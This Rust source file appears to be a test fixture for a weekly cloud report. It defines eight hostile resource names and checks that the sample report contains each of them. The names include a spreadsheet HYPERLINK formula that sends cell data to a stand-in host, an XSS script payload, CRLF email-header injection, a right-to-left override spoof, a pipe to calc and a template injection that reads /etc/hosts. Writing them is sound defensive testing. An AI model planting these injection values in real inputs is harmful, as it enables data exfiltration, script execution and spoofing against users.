//! A full weekly report over invented accounts, for the tests and for the sample in `reports/`.
//!
//! Week 47 of 2026 in Berlin, realistic in size and wording, and hostile where the cloud lets people be hostile:
//! names with HTML, formulas, line breaks, right-to-left marks, and letters that the report's face does not have.
//! The rows are in `sample.json`, in the shape that `domain::report::Report` has.

use crate::domain::report::Report;

/// Names that people and attackers have given to resources; every sink is tested with them.
pub const HOSTILE_NAMES: [&str; 8] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "db\r\nBcc: everyone@example.com\r\n\r\nhello",
    "\u{202E}gpj.tiderc\u{202C} \u{1b}[31mred\u{1b}[0m",
    "<!channel> & <@U123>",
    "成本 서버 — ჯანო 🦀",
    "+1-555-0100|calc",
    "{{ 7 * 7 }} {% include '/etc/hosts' %}",
];

/// The sample.
pub fn sample() -> Report {
    // It stands in this crate and a test reads it, so it cannot fail to parse.
    serde_json::from_str(include_str!("sample.json")).expect("sample.json is a report")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_sample_holds_every_hostile_name() {
        let report = sample();
        let names: Vec<&str> = (report.due.iter().map(|row| row.name.as_str()))
            .chain(report.decisions.iter().map(|row| row.name.as_str()))
            .chain(report.acts.iter().map(|row| row.name.as_str()))
            .chain(report.by_team.iter().map(|row| row.team.as_str()))
            .chain(report.top_findings.iter().map(|row| row.name.as_str()))
            .collect();
        let missing: Vec<&str> = HOSTILE_NAMES.into_iter().filter(|name| !names.contains(name)).collect();
        assert_eq!(missing, Vec::<&str>::new());
    }
}
